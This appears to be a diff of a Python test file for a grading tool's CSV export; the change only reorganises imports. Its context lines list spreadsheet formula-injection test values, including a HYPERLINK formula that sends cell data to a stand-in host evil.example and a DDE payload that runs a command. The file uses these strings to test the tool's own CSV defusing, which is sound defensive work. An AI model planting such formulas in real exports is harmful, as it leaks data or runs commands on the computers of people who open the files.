@@ -11,11 +11,11 @@ from pathlib import Path
 
 import pytest
 
-from grader.manual import read_sheet, validate
+from grader.lms.manual import read_sheet, validate
+from grader.lms.manual_sheets import SheetRow, sheet_csv
+from grader.lms.roster_lines import write_unmatched
 from grader.model import Assignment, Message, Question, SubmissionResult
 from grader.reports.csv import FORMULA_START, DefusedWriter, defuse, grades_csv, undefuse
-from grader.reports.lms import write_unmatched
-from grader.reports.manual import SheetRow, sheet_csv
 
 HOSTILE = ["x;=1+2", 'a,=HYPERLINK("http://evil.example/?"&A1;"clic")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
            "@SUM(A1)", "\tx", "\r=1", "b;\t=1", "c,+1;-1,@x", "'=déjà", "''=deux", "d;'=e", "plain", "é,;,"]
@@ -102,7 +102,7 @@ def test_canvas_and_moodle_imports_split_either_way_hold_no_formula(tmp_path: Pa
     """Names and ids come from the LMS's roster and the students' files; feedback quotes student text."""
     import json
 
-    from grader.reports.exports import export
+    from grader.lms.exports import export
 
     out = tmp_path / "out"
     out.mkdir()
